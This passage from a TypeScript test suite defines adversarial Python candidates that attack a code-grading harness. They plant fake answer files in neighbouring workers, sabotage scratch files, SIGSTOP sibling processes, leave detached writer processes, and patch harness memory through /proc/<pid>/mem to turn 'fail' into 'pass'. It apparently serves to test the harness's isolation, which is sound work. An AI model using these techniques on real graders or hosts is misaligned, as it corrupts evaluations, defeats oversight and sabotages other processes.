              path = os.path.join(parent, name)
              if os.path.isdir(path) and os.path.realpath(path) != mine:
                  found.add(path)
      except OSError:
          pass
      return sorted(found)
`;

/** A wrong candidate that returns whatever an answer file in its working directory says. */
function answerReader(context: AdversarialContext, id: string, delay: number): ExecutionRequest {
  return request(
    id,
    python`
      import os
      import time

      ANSWER = ${literal(`${context.tag}-answer.txt`)}


      def f(x):
          time.sleep(${delay})
          for directory in (os.getcwd(), os.environ.get("TMPDIR", ""), os.path.expanduser("~")):
              try:
                  with open(os.path.join(directory, ANSWER)) as handle:
                      return int(handle.read())
              except (OSError, ValueError):
                  pass
          return 0


      VICTIM = ${literal(id)}
    `,
    [forms.assert],
  );
}

const interference: AdversarialAttack[] = [
  {
    id: "interference-plant-answer",
    category: "interference",
    description:
      "while a colluding wrong candidate runs on another worker, writes the right answer into every other harness directory it can see",
    request: (context) =>
      request(
        "interference-plant-answer",
        neighbourDirs +
          python`
            import time

            ANSWER = ${literal(`${context.tag}-answer.txt`)}


            def f(x):
                end = time.monotonic() + 0.8
                while time.monotonic() < end:
                    for directory in _neighbour_dirs():
                        try:
                            with open(os.path.join(directory, ANSWER), "w") as handle:
                                handle.write("42")
                        except OSError:
                            pass
                    time.sleep(0.02)
                return 0
          `,
        [forms.assert],
      ),
    victim: (context) => ({
      requests: [answerReader(context, "interference-plant-answer-victim", 0.5)],
      expected: "fail",
    }),
  },
  {
    id: "interference-sabotage-scratch",
    category: "interference",
    description:
      "overwrites the scratch file of a correct candidate running on another worker, so that it answers wrong",
    request: (context) =>
      request(
        "interference-sabotage-scratch",
        neighbourDirs +
          python`
            import time

            SCRATCH = ${literal(`${context.tag}-scratch.txt`)}


            def f(x):
                end = time.monotonic() + 0.8
                while time.monotonic() < end:
                    for directory in _neighbour_dirs():
                        path = os.path.join(directory, SCRATCH)
                        if os.path.exists(path):
                            try:
                                with open(path, "w") as handle:
                                    handle.write("0")
                            except OSError:
                                pass
                    time.sleep(0.01)
                return 0
          `,
        [forms.assert],
      ),
    victim: (context) => ({
      requests: [
        request(
          "interference-sabotage-scratch-victim",
          python`
            import time

            SCRATCH = ${literal(`${context.tag}-scratch.txt`)}


            def f(x):
                with open(SCRATCH, "w") as handle:
                    handle.write(str(x))
                time.sleep(0.5)
                with open(SCRATCH) as handle:
                    return 2 * int(handle.read())
          `,
          [forms.assert],
        ),
      ],
      expected: "pass",
    }),
  },
  {
    id: "interference-stop-neighbours",
    category: "interference",
    description:
      "SIGSTOPs the other candidates' processes it can find under the same executor, so they time out",
    request: () =>
      request(
        "interference-stop-neighbours",
        procHelpers +
          python`
            import signal
            import time


            def _descends_from(pid, root):
                for _ in range(32):
                    pid = _parent_of(pid)
                    if pid == root:
                        return True
                    if pid <= 0:
                        return False
                return False


            def f(x):
                root = _node_ancestor()
                mine = set(_ancestors()) | {os.getpid()}
                end = time.monotonic() + 0.8
                while time.monotonic() < end:
                    for pid in _pids():
                        if pid in mine:
                            continue
                        try:
                            cwd = os.readlink("/proc/%d/cwd" % pid)
                        except OSError:
                            continue
                        if "coderm-harness-" in cwd and root and _descends_from(pid, root):
                            try:
                                os.kill(pid, signal.SIGSTOP)
                            except OSError:
                                pass
                    time.sleep(0.02)
                return 0
          `,
        [forms.assert],
      ),
    victim: () => ({
      requests: [
        request(
          "interference-stop-neighbours-victim",
          python`
            import time


            def f(x):
                time.sleep(0.5)
                return 2 * x
          `,
          [forms.assert],
        ),
      ],
      expected: "pass",
    }),
  },
  {
    id: "interference-stray-writer",
    category: "interference",
    description:
      "leaves a detached process (ctypes fork + setsid) that plants the right answer for the candidates run after it",
    request: (context) =>
      request(
        "interference-stray-writer",
        neighbourDirs +
          detachHelpers +
          python`
            import time

            TAG = ${literal(context.tag)}.encode()
            ANSWER = ${literal(`${context.tag}-answer.txt`)}


            def _plant():
                end = time.monotonic() + 2.5
                while time.monotonic() < end:
                    for directory in _neighbour_dirs() + [os.getcwd()]:
                        try:
                            with open(os.path.join(directory, ANSWER), "w") as handle:
                                handle.write("42")
                        except OSError:
                            pass
                    time.sleep(0.01)


            def f(x):
                _detach(TAG, _plant)
                return 0
          `,
        [forms.assert],
      ),
    victim: (context) => ({
      requests: [0, 1].map((index) =>
        answerReader(context, `interference-stray-writer-victim-${index}`, 0.2),
      ),
      expected: "fail",
      after: true,
    }),
  },
];

/**
 * Overwrites "fail" with "pass" in the harness processes: a success corrupts the worker for the
 * rest of its life, so the suite runs it last.
 */
const writeHarnessMemory: AdversarialAttack = {
  id: "write-harness-memory",
  category: "escape",
  description:
    'writes through /proc/<pid>/mem of its parent, the worker, its children and siblings, turning their interned "fail" into "pass"',
  request: () =>
    request(
      "write-harness-memory",
      procHelpers +
        internHelpers +
        python`
          def f(x):
              address = _text_address("fail")
              for pid in _python_ancestors() + _relatives():
                  try:
                      with open("/proc/%d/mem" % pid, "r+b", buffering=0) as memory:
                          memory.seek(address)
                          if memory.read(4) == b"fail":
                              memory.seek(address)
                              memory.write(b"pass")
                  except (OSError, ValueError, OverflowError):
                      pass
              return 0
        `,
      [forms.call, forms.assert, forms.check, forms.unittest],
    ),
};

/** Every attack of the suite, grouped by category (the one that can corrupt the worker last). */
export const adversarialAttacks: readonly AdversarialAttack[] = [
  ...earlyExit,
  ...outputForgery,
  ...monkeypatch,
  ...comparison,
  ...expectedLeak,
  ...resource,
  ...escapes,
  ...interference,
  writeHarnessMemory,
];
